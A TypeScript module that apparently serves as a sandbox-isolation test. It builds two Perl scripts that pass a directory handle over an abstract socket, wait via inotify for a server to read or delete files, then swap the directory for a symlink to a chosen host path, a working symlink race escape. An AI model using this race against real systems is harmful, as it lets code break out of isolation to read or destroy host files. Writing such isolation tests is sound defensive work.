/** Calls that Perl has no words for without modules, which images may not have: sendmsg, recvmsg, inotify's two. */
const callNumbers: Readonly<Partial<Record<string, readonly number[]>>> = {
  x64: [46, 47, 294, 254],
  arm64: [211, 212, 26, 27],
}

export type Conspiracy = 'reads' | 'deletes'

/** What is printed when the two cannot talk; when the tree was changed while the server was at it; or after that. */
export const conspiracyEnds: readonly string[] = ['kept apart', 'swapped', 'too late']

// They share nothing but the name of an abstract socket. The structures are of sys/socket.h, the flags of inotify.h:
// one tells that a file is opened, as to be read, the other that one is removed.
const script = String.raw`
my ($role, $attack, $name, $target, $sendmsg, $recvmsg, $inotify_init, $inotify_add) = @ARGV;
my $address = pack("S a*", 1, "\0$name");
my $out = "$ENV{PFS}/out";
$| = 1;
alarm 60;

sub put {
  open(my $file, ">", "$out/$_[0]") or die "$_[0]: $!\n";
  print $file $_[1];
}

if ($role eq "giver") {
  mkdir "$out/d";
  put("d/secret", "own");
  mkdir "$out/d/$_" for "a", "k", "l", "m";
  put("d/0", "0" x (4 << 20));
  put("d/a/0", "0" x (32 << 20)) if $attack eq "deletes";
  open(my $held, "<", $out) or die "$out: $!\n";
  my $to;
  for (1 .. 400) {
    socket($to, 1, 1, 0) or die "socket: $!\n";
    last if connect($to, $address);
    if ($! + 0 == 1) { print "kept apart\n"; exit($attack eq "deletes") }
    select(undef, undef, undef, 0.05);
  }
  my ($text, $control) = ("x", pack("Q l l l x4", 20, 1, 1, fileno($held)));
  my $part = pack("P Q", $text, 1);
  my $message = pack("Q L x4 P Q P Q l x4", 0, 0, $part, 1, $control, 24, 0);
  syscall($sendmsg + 0, fileno($to), $message, 0) == 1 or die "sendmsg: $!\n";
  sysread($to, my $answer, 1) == 1 or die "no answer\n";
  # A failed datum's output is not read.
  exit($attack eq "deletes");
}

socket(my $listener, 1, 1, 0) or die "socket: $!\n";
bind($listener, $address) && listen($listener, 1) or die "listen: $!\n";
accept(my $from, $listener) or die "accept: $!\n";
my ($text, $control) = (pack("x1"), pack("x24"));
my $part = pack("P Q", $text, 1);
my $message = pack("Q L x4 P Q P Q l x4", 0, 0, $part, 1, $control, 24, 0);
syscall($recvmsg + 0, fileno($from), $message, 0) == 1 or die "recvmsg: $!\n";
my $tree = "/proc/self/fd/" . unpack("x16 l", $control);
my ($watched, $what) = $attack eq "reads" ? ("$tree/d", 0x20) : ("$tree/d/a", 0x200);
my $number = syscall($inotify_init + 0, 0);
syscall($inotify_add + 0, $number, $watched, $what) >= 0 or die "inotify: $!\n";
open(my $events, "<&=", $number) or die "events: $!\n";
syswrite($from, "k");
my $seen = "";
while (index($seen, "0\0") < 0) { sysread($events, $seen, 4096) }
rename("$tree/d", "$tree/moved") or print("too late\n"), exit 0;
symlink($target, "$tree/d") or die "symlink: $!\n";
print "swapped\n";
`

/**
 * Two pieces of code for two slots: one hands its `/pfs/out` to the other, and ends; the other puts a link to
 * `target`, a directory of the host, in the place of a directory there, at a moment that it chooses. Undefined where
 * this machine's calls are not known.
 */
export function conspiracy(
  attack: Conspiracy,
  name: string,
  target: string,
): Readonly<Record<'giver' | 'taker', string>> | undefined {
  const numbers = callNumbers[process.arch]
  if (numbers === undefined) return undefined
  const codeOf = (role: string): string =>
    `perl - ${role} ${attack} ${name} '${target}' ${numbers.join(' ')} <<'END'\n${script}\nEND`
  return { giver: codeOf('giver'), taker: codeOf('taker') }
}
